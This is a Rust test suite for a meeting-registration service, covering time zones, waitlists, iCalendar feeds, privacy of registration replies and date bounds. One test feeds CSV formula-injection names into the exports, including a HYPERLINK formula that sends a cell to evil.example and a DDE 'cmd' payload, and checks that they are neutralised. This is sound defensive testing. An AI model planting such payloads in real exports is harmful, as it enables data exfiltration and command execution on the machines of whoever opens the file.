//! Meetings: scheduling in local time, atomic capacity with a waitlist,
//! messages in the outbox, and iCalendar output read back by a parser.
use std::io::BufReader;

use axum::Router;
use http::StatusCode;
use passerelle::app;
use passerelle_calendar::text::{decode_param_value, unescape_text};
use serde_json::{Value, json};

use crate::common::api::send;
use crate::common::meetings::{
    TITLE, WebClient, create_meeting, last_sunday, mailed_link, meeting, on, registration_links,
    sector_id,
};
use crate::common::{TestDb, both_backends, get, shared_data};

use crate::common::api::setup;

fn parse_ics(text: &str) -> ical::parser::ical::component::IcalCalendar {
    let mut parser = ical::IcalParser::new(BufReader::new(text.as_bytes()));
    parser
        .next()
        .expect("a calendar")
        .expect("parsable iCalendar")
}

fn prop(props: &[ical::property::Property], name: &str) -> String {
    props
        .iter()
        .find(|p| p.name == name)
        .and_then(|p| p.value.clone())
        .unwrap_or_else(|| panic!("no {name}"))
}

/// Creation in local time, DST refusals, invitations, and the .ics documents
/// through a reschedule and a cancellation.
async fn meetings_and_their_calendars(db: TestDb) {
    let token = setup(&db);
    let app = app(db.state().await);
    let sector = sector_id(&app, "0750607C").await;
    // A family with an open request and a referent of the sector are invited.
    crate::common::api::volunteer(&app, "Amina", 2).await;
    crate::common::api::ask(&app, "Julien").await;

    for (starts, needle) in [
        (format!("{}T02:30", last_sunday(3)), "n'existe pas"),
        (format!("{}T02:30", last_sunday(10)), "ambiguë"),
    ] {
        let detail = send(
            &app,
            "POST",
            "/api/v1/meetings",
            Some(meeting(
                sector,
                &starts,
                &format!("{}T04:00", last_sunday(10)),
                20,
            )),
            Some(&token),
        )
        .await
        .problem(StatusCode::UNPROCESSABLE_ENTITY);
        assert!(detail.contains(needle), "{detail}");
    }
    send(
        &app,
        "POST",
        "/api/v1/meetings",
        Some(meeting(sector, &on("03-12T18:30"), &on("03-12T20:00"), 20)),
        None,
    )
    .await
    .problem(StatusCode::UNAUTHORIZED);
    let reply = send(
        &app,
        "POST",
        "/api/v1/meetings",
        Some(meeting(sector, &on("03-12T18:30"), &on("03-12T20:00"), 20)),
        Some(&token),
    )
    .await;
    assert_eq!(
        reply.status,
        StatusCode::CREATED,
        "{}",
        String::from_utf8_lossy(&reply.body)
    );
    let created = reply.json();
    let id = created["id"].as_i64().unwrap();
    assert_eq!(created["starts_at"], on("03-12T18:30"));
    assert_eq!(created["starts_at_utc"], on("03-12T17:30:00Z"));

    let outbox = db.store().await.outbox().await.unwrap();
    let invited: Vec<&str> = outbox
        .iter()
        .filter(|m| m.kind == "invitation")
        .map(|m| m.recipient_email.as_str())
        .collect();
    assert_eq!(invited, ["amina@parents.example", "julien@famille.example"]);

    // The published .ics reads back with every special character intact.
    let reply = get(&app, &format!("/api/v1/meetings/{id}.ics")).await;
    assert_eq!(reply.content_type, "text/calendar; charset=utf-8");
    let text = String::from_utf8(reply.body).unwrap();
    assert!(
        text.lines().all(|l| l.len() <= 76),
        "lines fold at 75 octets"
    );
    let cal = parse_ics(&text);
    assert_eq!(prop(&cal.properties, "METHOD"), "PUBLISH");
    assert!(!cal.timezones.is_empty(), "a VTIMEZONE for Europe/Paris");
    let event = &cal.events[0];
    assert_eq!(unescape_text(&prop(&event.properties, "SUMMARY")), TITLE);
    let uid = prop(&event.properties, "UID");
    assert_eq!(prop(&event.properties, "SEQUENCE"), "0");
    let stamp = prop(&event.properties, "DTSTAMP");
    assert!(stamp.ends_with('Z'));

    // A registration's invite names its attendee, quotes and all.
    let reg = send(
        &app,
        "POST",
        &format!("/api/v1/meetings/{id}/registrations"),
        Some(json!({"name": "Dupont, \"Mimi\" Marie", "email": "mimi@example.org", "guests": 1})),
        None,
    )
    .await
    .json();
    assert_eq!(reg["status"], "confirmed");
    let reg = registration_links(&db, id, "mimi@example.org").await;
    let invite = String::from_utf8(get(&app, &reg.invite()).await.body).unwrap();
    let cal = parse_ics(&invite);
    assert_eq!(prop(&cal.properties, "METHOD"), "REQUEST");
    let attendee = cal.events[0]
        .properties
        .iter()
        .find(|p| p.name == "ATTENDEE")
        .unwrap();
    let params = attendee.params.clone().unwrap();
    let cn = &params.iter().find(|(k, _)| k == "CN").unwrap().1[0];
    assert_eq!(decode_param_value(cn), "Dupont, \"Mimi\" Marie");
    assert!(params.iter().any(|(k, v)| k == "RSVP" && v[0] == "TRUE"));
    assert!(prop(&cal.events[0].properties, "ORGANIZER").starts_with("mailto:"));

    // Reschedule: same UID, higher SEQUENCE, new DTSTAMP, update messages.
    std::thread::sleep(std::time::Duration::from_millis(1100));
    let moved = send(
        &app,
        "PATCH",
        &format!("/api/v1/meetings/{id}"),
        Some(json!({"starts_at": on("03-13T18:30"), "ends_at": on("03-13T20:00")})),
        Some(&token),
    )
    .await
    .json();
    assert_eq!(moved["sequence"], 1);
    let cal = parse_ics(
        &String::from_utf8(get(&app, &format!("/api/v1/meetings/{id}.ics")).await.body).unwrap(),
    );
    assert_eq!(prop(&cal.events[0].properties, "UID"), uid);
    assert_eq!(prop(&cal.events[0].properties, "SEQUENCE"), "1");
    assert_ne!(prop(&cal.events[0].properties, "DTSTAMP"), stamp);
    let outbox = db.store().await.outbox().await.unwrap();
    let update = outbox
        .iter()
        .find(|m| m.kind == "update")
        .expect("an update message");
    assert_eq!(update.ics_method.as_deref(), Some("REQUEST"));

    // Cancellation: METHOD:CANCEL, STATUS:CANCELLED, same UID, higher SEQUENCE.
    send(
        &app,
        "POST",
        &format!("/api/v1/meetings/{id}/cancel"),
        None,
        Some(&token),
    )
    .await;
    let cal = parse_ics(&String::from_utf8(get(&app, &reg.invite()).await.body).unwrap());
    assert_eq!(prop(&cal.properties, "METHOD"), "CANCEL");
    assert_eq!(prop(&cal.events[0].properties, "STATUS"), "CANCELLED");
    assert_eq!(prop(&cal.events[0].properties, "UID"), uid);
    assert!(
        prop(&cal.events[0].properties, "SEQUENCE")
            .parse::<u32>()
            .unwrap()
            >= 2
    );
    let outbox = db.store().await.outbox().await.unwrap();
    assert!(
        outbox
            .iter()
            .any(|m| m.kind == "cancellation" && m.ics_method.as_deref() == Some("CANCEL"))
    );
    let detail = send(
        &app,
        "POST",
        &format!("/api/v1/meetings/{id}/registrations"),
        Some(json!({"name": "Léa", "email": "lea@example.org"})),
        None,
    )
    .await
    .problem(StatusCode::CONFLICT);
    assert!(detail.contains("annulée"), "{detail}");

    // The sector feed is a subscription.
    let feed = String::from_utf8(
        get(&app, &format!("/api/v1/sectors/{sector}/meetings.ics"))
            .await
            .body,
    )
    .unwrap();
    assert!(
        feed.contains("REFRESH-INTERVAL;VALUE=DURATION:") && feed.contains("X-PUBLISHED-TTL:"),
        "{feed}"
    );
    let feed = mailed_link(&db, "mimi@example.org", "confirmation", "/feed.ics").await;
    let person = String::from_utf8(get(&app, &feed).await.body).unwrap();
    assert_eq!(parse_ics(&person).events.len(), 1);
}

/// 200 simultaneous registrations for 20 places: exactly 20 confirmed and
/// 180 waitlisted; a cancellation promotes the first on the waitlist.
async fn capacity_is_atomic(db: TestDb) {
    let token = setup(&db);
    let app = app(db.state().await);
    let sector = sector_id(&app, "0750607C").await;
    let id = send(
        &app,
        "POST",
        "/api/v1/meetings",
        Some(meeting(sector, &on("03-12T18:30"), &on("03-12T20:00"), 20)),
        Some(&token),
    )
    .await
    .json()["id"]
        .as_i64()
        .unwrap();
    // A meeting that does not exist: nothing to lock, a 404.
    let missing = id + 1000;
    let detail = send(
        &app,
        "POST",
        &format!("/api/v1/meetings/{missing}/registrations"),
        Some(json!({"name": "Léa", "email": "lea@example.org"})),
        None,
    )
    .await
    .problem(StatusCode::NOT_FOUND);
    assert!(
        detail.contains(&format!("réunion {missing} n'existe pas")),
        "{detail}"
    );
    // Ten people submit their form twice at once (the second time with
    // capitals): each gets one place or rank, and the second submission the
    // same kind of answer, with a message instead of a second place.
    let mut tasks = Vec::new();
    for i in 0..210 {
        let app = app.clone();
        tasks.push(tokio::spawn(async move {
            let email = match i {
                200.. => format!("P{}@Example.org", i - 200),
                _ => format!("p{i}@example.org"),
            };
            let body = json!({"name": format!("Parent {i}"), "email": email});
            let reply = send(
                &app,
                "POST",
                &format!("/api/v1/meetings/{id}/registrations"),
                Some(body),
                None,
            )
            .await;
            (email, reply)
        }));
    }
    let (mut replies, mut emails) = (Vec::new(), Vec::new());
    for t in tasks {
        let (email, reply) = t.await.unwrap();
        assert_eq!(reply.status, StatusCode::CREATED);
        replies.push(reply.json());
        emails.push(email);
    }
    let list = send(
        &app,
        "GET",
        &format!("/api/v1/meetings/{id}/registrations"),
        None,
        Some(&token),
    )
    .await
    .json();
    let count = |status: &str| {
        list.as_array()
            .unwrap()
            .iter()
            .filter(|r| r["status"] == status)
            .count()
    };
    assert_eq!((count("confirmed"), count("waitlisted")), (20, 180));
    let outbox = db.store().await.outbox().await.unwrap();
    assert_eq!(
        outbox
            .iter()
            .filter(|m| m.kind == "already_registered")
            .count(),
        10
    );

    let list = send(
        &app,
        "GET",
        &format!("/api/v1/meetings/{id}/registrations"),
        None,
        Some(&token),
    )
    .await
    .json();
    let first_waiting = list
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["status"] == "waitlisted")
        .unwrap()["id"]
        .clone();
    // Of the people who submitted once, whose answer is surely their own.
    let leaving_at = (10..200)
        .find(|&i| replies[i]["status"] == "confirmed")
        .unwrap();
    let leaving_email = &emails[leaving_at];
    let leaving = registration_links(&db, id, leaving_email).await;
    send(&app, "POST", &leaving.cancel(), None, None).await;
    let list = send(
        &app,
        "GET",
        &format!("/api/v1/meetings/{id}/registrations"),
        None,
        Some(&token),
    )
    .await
    .json();
    let promoted = list
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["id"] == first_waiting)
        .unwrap();
    assert_eq!(promoted["status"], "confirmed");
    assert_eq!(
        list.as_array()
            .unwrap()
            .iter()
            .filter(|r| r["status"] == "confirmed")
            .count(),
        20
    );
    let outbox = db.store().await.outbox().await.unwrap();
    assert_eq!(outbox.iter().filter(|m| m.kind == "promotion").count(), 1);
    send(&app, "POST", &leaving.cancel(), None, None)
        .await
        .problem(StatusCode::CONFLICT);

    let csv = send(
        &app,
        "GET",
        &format!("/api/v1/meetings/{id}/registrations?format=csv"),
        None,
        Some(&token),
    )
    .await;
    assert_eq!(
        String::from_utf8(csv.body).unwrap().lines().count(),
        1 + 199
    );

    // Once cancelled, the same person may register again: at the back.
    let again = send(
        &app,
        "POST",
        &format!("/api/v1/meetings/{id}/registrations"),
        Some(json!({"name": "Revenu", "email": leaving_email})),
        None,
    )
    .await
    .json();
    assert_eq!(again["status"], "waitlisted");
}

/// Registration closes at the deadline; the holidays of the sector's zone
/// and its other meetings are kept out of slot suggestions.
async fn deadlines_holidays_and_slots(db: TestDb) {
    let token = setup(&db);
    let app = app(db.state().await);
    let sector = sector_id(&app, "0750607C").await;
    let mut past = meeting(sector, &on("03-12T18:30"), &on("03-12T20:00"), 5);
    past["registration_deadline"] = json!("2020-01-01T12:00");
    let id = send(&app, "POST", "/api/v1/meetings", Some(past), Some(&token))
        .await
        .json()["id"]
        .as_i64()
        .unwrap();
    let detail = send(
        &app,
        "POST",
        &format!("/api/v1/meetings/{id}/registrations"),
        Some(json!({"name": "Léa", "email": "lea@example.org"})),
        None,
    )
    .await
    .problem(StatusCode::CONFLICT);
    assert!(detail.contains("closes"), "{detail}");

    let holidays = shared_data("calendrier-scolaire/Zone-A-B-C-Corse-2021.ics");
    let output = db.cli(&["import", "holidays", holidays.to_str().unwrap()]);
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    // Paris is zone C: the 2026 winter holidays there run 21 Feb – 9 Mar.
    let slots = get(
        &app,
        &format!(
            "/api/v1/sectors/{sector}/slot-suggestions?from=2026-02-16&to=2026-03-15&duration=90"
        ),
    )
    .await
    .json();
    let days: Vec<&str> = slots
        .as_array()
        .unwrap()
        .iter()
        .map(|s| &s["local_start"].as_str().unwrap()[..10])
        .collect();
    assert!(!days.is_empty());
    assert!(
        days.iter()
            .all(|d| !("2026-02-21".."2026-03-09").contains(d)),
        "{days:?}"
    );
    get(
        &app,
        &format!("/api/v1/sectors/{sector}/slot-suggestions?from=2026-01-01&to=2026-12-31"),
    )
    .await
    .problem(StatusCode::BAD_REQUEST);
}

both_backends!(
    meetings_and_their_calendars,
    capacity_is_atomic,
    deadlines_holidays_and_slots
);

/// A reminder goes to every confirmed person of a meeting within 48 hours,
/// once however often the check runs.
async fn reminders_are_queued_once(db: TestDb) {
    let token = setup(&db);
    let state = db.state().await;
    let app = app(state.clone());
    let sector = sector_id(&app, "0750607C").await;
    let soon = (chrono::Utc::now() + chrono::TimeDelta::hours(24))
        .with_timezone(&chrono_tz::Europe::Paris);
    let later = soon + chrono::TimeDelta::hours(1);
    let mut body = meeting(
        sector,
        &soon.format("%Y-%m-%dT%H:%M").to_string(),
        &later.format("%Y-%m-%dT%H:%M").to_string(),
        5,
    );
    body["registration_deadline"] = json!(soon.format("%Y-%m-%dT%H:%M").to_string());
    let reply = send(&app, "POST", "/api/v1/meetings", Some(body), Some(&token)).await;
    assert_eq!(
        reply.status,
        StatusCode::CREATED,
        "{}",
        String::from_utf8_lossy(&reply.body)
    );
    let id = reply.json()["id"].as_i64().unwrap();
    send(
        &app,
        "POST",
        &format!("/api/v1/meetings/{id}/registrations"),
        Some(json!({"name": "Léa", "email": "lea@example.org"})),
        None,
    )
    .await;
    for _ in 0..3 {
        passerelle_app::meetings::queue_reminders(&state, chrono::Utc::now())
            .await
            .unwrap();
    }
    let outbox = db.store().await.outbox().await.unwrap();
    let reminders: Vec<_> = outbox.iter().filter(|m| m.kind == "reminder").collect();
    assert_eq!(reminders.len(), 1);
    assert_eq!(reminders[0].recipient_email, "lea@example.org");
}

both_backends!(reminders_are_queued_once);

async fn register(app: &Router, meeting: i64, name: &str, email: &str) -> crate::common::Reply {
    send(
        app,
        "POST",
        &format!("/api/v1/meetings/{meeting}/registrations"),
        Some(json!({"name": name, "email": email})),
        None,
    )
    .await
}

/// A registration answers with its status only: its links, and the feed
/// of all of a person's meetings, go by mail. Registering an address again
/// answers exactly as for a new one, leaves the registration's links alone,
/// and mails the address that it is already registered; the page does the
/// same.
async fn registering_tells_nothing_about_an_address(db: TestDb) {
    let token = setup(&db);
    let state = db.state().await;
    let app = app(state.clone());
    let first = create_meeting(&app, &token, 1).await;
    let second = create_meeting(&app, &token, 5).await;

    let lea = register(&app, first, "Léa", "lea@example.org").await;
    assert_eq!(lea.status, StatusCode::CREATED);
    let lea = lea.json();
    let keys = |v: &Value| {
        let mut k: Vec<String> = v.as_object().unwrap().keys().cloned().collect();
        k.sort();
        k
    };
    assert_eq!(keys(&lea), ["message", "status"]);
    assert_eq!(lea["status"], "confirmed");
    assert!(
        !lea.to_string().contains("ins_") && !lea.to_string().contains("fil_"),
        "{lea}"
    );
    // The registration's secret, mailed, opens its invite, never a
    // person's feed.
    let links = registration_links(&db, first, "lea@example.org").await;
    assert_eq!(get(&app, &links.invite()).await.status, StatusCode::OK);
    get(&app, &links.invite().replace("/invite.ics", "/feed.ics"))
        .await
        .problem(StatusCode::NOT_FOUND);
    let first_feed = mailed_link(&db, "lea@example.org", "confirmation", "/feed.ics").await;
    register(&app, second, "Léa", "lea@example.org").await;
    let feed = mailed_link(&db, "lea@example.org", "confirmation", "/feed.ics").await;
    let feed = String::from_utf8(get(&app, &feed).await.body).unwrap();
    assert_eq!(parse_ics(&feed).events.len(), 2, "{feed}");

    // A stranger registers Léa's address again, then a new address: the
    // two answers are the same bytes.
    let again = register(&app, first, "Inconnu", "LEA@example.org").await;
    let fresh = register(&app, first, "Tom", "tom@example.org").await;
    assert_eq!(again.status, fresh.status);
    assert_eq!(again.content_type, fresh.content_type);
    assert_eq!(
        String::from_utf8_lossy(&again.body),
        String::from_utf8_lossy(&fresh.body)
    );
    let (again, fresh) = (again.json(), fresh.json());
    assert_eq!(again, fresh);
    assert_eq!(again["status"], "waitlisted");
    let list = send(
        &app,
        "GET",
        &format!("/api/v1/meetings/{first}/registrations"),
        None,
        Some(&token),
    )
    .await
    .json();
    let rows: Vec<(&str, &str)> = list
        .as_array()
        .unwrap()
        .iter()
        .map(|r| (r["name"].as_str().unwrap(), r["status"].as_str().unwrap()))
        .collect();
    assert_eq!(rows, [("Léa", "confirmed"), ("Tom", "waitlisted")]);
    // Léa's links still work: her page, her invite and her feed.
    assert_eq!(get(&app, &links.invite()).await.status, StatusCode::OK);
    assert_eq!(get(&app, &first_feed).await.status, StatusCode::OK);
    let web = WebClient::anonymous();
    let shown = web
        .get(&app, &format!("/inscription/{}", links.secret))
        .await;
    assert_eq!(shown.status, StatusCode::OK);
    assert!(shown.body.contains("Votre inscription est confirmée."));
    // She is told that her address is already registered, where her links
    // are, and the meeting's page; the mail holds no private link.
    let outbox = db.store().await.outbox().await.unwrap();
    let told = outbox
        .iter()
        .rev()
        .find(|m| m.recipient_email == "lea@example.org" && m.kind == "already_registered")
        .expect("an already-registered message to Léa");
    assert_eq!(told.meeting_id, Some(first));
    assert!(told.subject.contains("Déjà inscrit"), "{}", told.subject);
    assert!(
        told.body.contains(&format!("/reunions/{first}")),
        "{}",
        told.body
    );
    assert!(
        !told.body.contains("ins_") && !told.body.contains("fil_"),
        "{}",
        told.body
    );

    // The page: the same redirection for an address already registered
    // and for a new one, to a page without private links.
    let page_again = web
        .post(
            &app,
            &format!("/reunions/{second}/inscription"),
            &[("name", "Inconnu"), ("email", "lea@example.org")],
        )
        .await;
    let page_new = web
        .post(
            &app,
            &format!("/reunions/{second}/inscription"),
            &[("name", "Nadia"), ("email", "nadia@example.org")],
        )
        .await;
    assert_eq!(page_again.status, StatusCode::SEE_OTHER);
    assert_eq!(
        (page_again.status, &page_again.location),
        (page_new.status, &page_new.location)
    );
    assert_eq!(
        page_new.location,
        format!("/reunions/{second}?inscription=confirmee")
    );
    let landing = web.get(&app, &page_new.location).await;
    assert!(landing.body.contains("Votre inscription est confirmée."));
    assert!(landing.body.contains("contient vos liens"));
    assert!(!landing.body.contains("ins_") && !landing.body.contains("fil_"));
    let outbox = db.store().await.outbox().await.unwrap();
    assert_eq!(
        outbox
            .iter()
            .filter(|m| m.kind == "already_registered")
            .count(),
        2
    );
}

/// Names that a spreadsheet would run as formulas come out as text in
/// every registrations export, the API's and the page's.
async fn registration_exports_neutralise_formulas(db: TestDb) {
    let token = setup(&db);
    let state = db.state().await;
    let app = app(state.clone());
    let id = create_meeting(&app, &token, 10).await;
    let hostile = [
        r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#,
        "+33 6 12 34 56 78",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
    ];
    for (i, name) in hostile.iter().enumerate() {
        let reply = register(&app, id, name, &format!("p{i}@example.org")).await;
        assert_eq!(reply.status, StatusCode::CREATED);
    }
    let api = send(
        &app,
        "GET",
        &format!("/api/v1/meetings/{id}/registrations?format=csv"),
        None,
        Some(&token),
    )
    .await
    .body;
    let web = WebClient::organizer(&state, "orga@asso.example").await;
    let page = web
        .get(
            &app,
            &format!("/organisation/reunions/{id}/inscriptions.csv"),
        )
        .await;
    assert_eq!(page.status, StatusCode::OK);
    for (csv, name_column) in [(api, "name"), (page.body.into_bytes(), "nom")] {
        let mut reader = csv::Reader::from_reader(csv.as_slice());
        let headers = reader.headers().unwrap().clone();
        let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        let names: Vec<&str> = rows.iter().map(|r| &r[column(name_column)]).collect();
        let expected: Vec<String> = hostile.iter().map(|n| format!("'{n}")).collect();
        assert_eq!(names, expected);
        // Numbers stay numbers.
        assert!(rows.iter().all(|r| r[column("id")].parse::<i64>().is_ok()));
    }
}

/// A meeting starts in the next two years: a past start or one more than
/// 730 days ahead is refused on create and on update, by the API (422
/// naming `starts_at`) and by the organizer's page (beside the field),
/// and nothing is stored.
async fn meeting_dates_are_bounded(db: TestDb) {
    let token = setup(&db);
    let state = db.state().await;
    let app = app(state.clone());
    let sector = sector_id(&app, "0750607C").await;
    let id = create_meeting(&app, &token, 10).await;
    let local = |t: chrono::DateTime<chrono::Utc>| {
        t.with_timezone(&chrono_tz::Europe::Paris)
            .format("%Y-%m-%dT%H:%M")
            .to_string()
    };
    let now = chrono::Utc::now();
    let out_of_bounds = [
        "9999-03-12T18:30".to_owned(),
        "0001-03-12T18:30".to_owned(),
        local(now - chrono::TimeDelta::days(1)),
        local(now + chrono::TimeDelta::days(732)),
    ];
    let meetings_before = db.store().await.meetings(None, None, None).await.unwrap();
    for starts in &out_of_bounds {
        let ends = format!("{}T20:00", &starts[..10]);
        let mut body = meeting(sector, starts, &ends, 10);
        body["registration_deadline"] = json!(starts);
        let detail = send(&app, "POST", "/api/v1/meetings", Some(body), Some(&token))
            .await
            .problem(StatusCode::UNPROCESSABLE_ENTITY);
        assert!(detail.contains("starts_at"), "{starts}: {detail}");
        let detail = send(
            &app,
            "PATCH",
            &format!("/api/v1/meetings/{id}"),
            Some(json!({"starts_at": starts, "ends_at": ends})),
            Some(&token),
        )
        .await
        .problem(StatusCode::UNPROCESSABLE_ENTITY);
        assert!(detail.contains("starts_at"), "{starts}: {detail}");
    }
    let meetings_after = db.store().await.meetings(None, None, None).await.unwrap();
    assert_eq!(
        format!("{:?}", meetings_after),
        format!("{:?}", meetings_before)
    );
    // Within the bounds, a day before the limit.
    let latest = now + chrono::TimeDelta::days(729);
    let body = meeting(
        sector,
        &local(latest),
        &local(latest + chrono::TimeDelta::hours(1)),
        10,
    );
    let reply = send(&app, "POST", "/api/v1/meetings", Some(body), Some(&token)).await;
    assert_eq!(reply.status, StatusCode::CREATED);

    // The organizer's page says it beside the field, in French.
    let web = WebClient::organizer(&state, "orga@asso.example").await;
    let sector_text = sector.to_string();
    let ends = "9999-03-12T20:00";
    let page = web
        .post(
            &app,
            "/organisation/reunions",
            &[
                ("title", "Réunion de quartier"),
                ("venue_name", "Maison des associations"),
                ("venue_address", "8 rue du Général Renault, 75011 Paris"),
                ("starts_at", "9999-03-12T18:30"),
                ("ends_at", ends),
                ("capacity", "20"),
                ("sector_ids", &sector_text),
            ],
        )
        .await;
    assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY);
    let beside = page
        .body
        .split(r#"id="starts_at-err""#)
        .nth(1)
        .expect("an error beside starts_at");
    let beside: String = beside.chars().take(300).collect();
    assert!(beside.contains("plus de deux ans"), "{beside}");
    let count = db
        .store()
        .await
        .meetings(None, None, None)
        .await
        .unwrap()
        .len();
    assert_eq!(count, meetings_before.len() + 1);
}

/// A meeting stored with a year the calendar cannot write (as before the
/// bounds, or by hand) is left out of the feeds instead of breaking them.
async fn unwritable_stored_meetings_do_not_break_feeds(db: TestDb) {
    use passerelle_store::entities::meetings as stored;
    use sea_orm::{ColumnTrait, EntityTrait, QueryFilter, sea_query::Expr};
    let token = setup(&db);
    let app = app(db.state().await);
    let sector = sector_id(&app, "0750607C").await;
    let good = create_meeting(&app, &token, 10).await;
    let bad_late = create_meeting(&app, &token, 10).await;
    let bad_early = create_meeting(&app, &token, 10).await;
    for id in [good, bad_late, bad_early] {
        assert_eq!(
            register(&app, id, "Léa", "lea@example.org").await.status,
            StatusCode::CREATED
        );
    }
    let conn = sea_orm::Database::connect(db.url.as_str()).await.unwrap();
    for (id, year) in [(bad_late, 9999), (bad_early, 1)] {
        let starts = chrono::NaiveDate::from_ymd_opt(year, 3, 12)
            .unwrap()
            .and_hms_opt(17, 30, 0)
            .unwrap()
            .and_utc();
        stored::Entity::update_many()
            .col_expr(stored::Column::StartsAt, Expr::value(starts))
            .col_expr(
                stored::Column::EndsAt,
                Expr::value(starts + chrono::TimeDelta::hours(2)),
            )
            .col_expr(stored::Column::RegistrationDeadline, Expr::value(starts))
            .filter(stored::Column::Id.eq(id))
            .exec(&conn)
            .await
            .unwrap();
    }
    conn.close().await.unwrap();
    let uid = |id: i64| format!("reunion-{id}@");
    let feed = mailed_link(&db, "lea@example.org", "confirmation", "/feed.ics").await;
    for path in [format!("/api/v1/sectors/{sector}/meetings.ics"), feed] {
        let reply = get(&app, &path).await;
        assert_eq!(reply.status, StatusCode::OK, "{path}");
        let text = String::from_utf8(reply.body).unwrap();
        let cal = parse_ics(&text);
        assert_eq!(cal.events.len(), 1, "{path}: {text}");
        assert!(
            prop(&cal.events[0].properties, "UID").starts_with(&uid(good)),
            "{text}"
        );
    }
    for id in [bad_late, bad_early] {
        let reply = get(&app, &format!("/api/v1/meetings/{id}.ics")).await;
        assert_eq!(reply.status, StatusCode::OK);
        let text = String::from_utf8(reply.body).unwrap();
        assert!(parse_ics(&text).events.is_empty(), "{text}");
    }
}

both_backends!(
    registering_tells_nothing_about_an_address,
    registration_exports_neutralise_formulas,
    meeting_dates_are_bounded,
    unwritable_stored_meetings_do_not_break_feeds
);

/// A meeting whose stored time zone is not a zone (a hand edit) is an
/// error wherever it shows, never times shown in another zone.
async fn an_unknown_time_zone_fails_loudly(db: TestDb) {
    let token = setup(&db);
    let app = app(db.state().await);
    let id = create_meeting(&app, &token, 5).await;
    assert_eq!(
        get(&app, &format!("/api/v1/meetings/{id}")).await.status,
        StatusCode::OK
    );
    let conn = sea_orm::Database::connect(db.url.as_str()).await.unwrap();
    sea_orm::ConnectionTrait::execute_unprepared(
        &conn,
        &format!("UPDATE meetings SET time_zone = 'Mars/Olympus_Mons' WHERE id = {id}"),
    )
    .await
    .unwrap();
    conn.close().await.ok();
    for uri in [
        format!("/api/v1/meetings/{id}"),
        "/api/v1/meetings".to_owned(),
        format!("/api/v1/meetings/{id}.ics"),
        format!("/reunions/{id}"),
    ] {
        assert_eq!(
            get(&app, &uri).await.status,
            StatusCode::INTERNAL_SERVER_ERROR,
            "{uri}"
        );
    }
}

both_backends!(an_unknown_time_zone_fails_loudly);
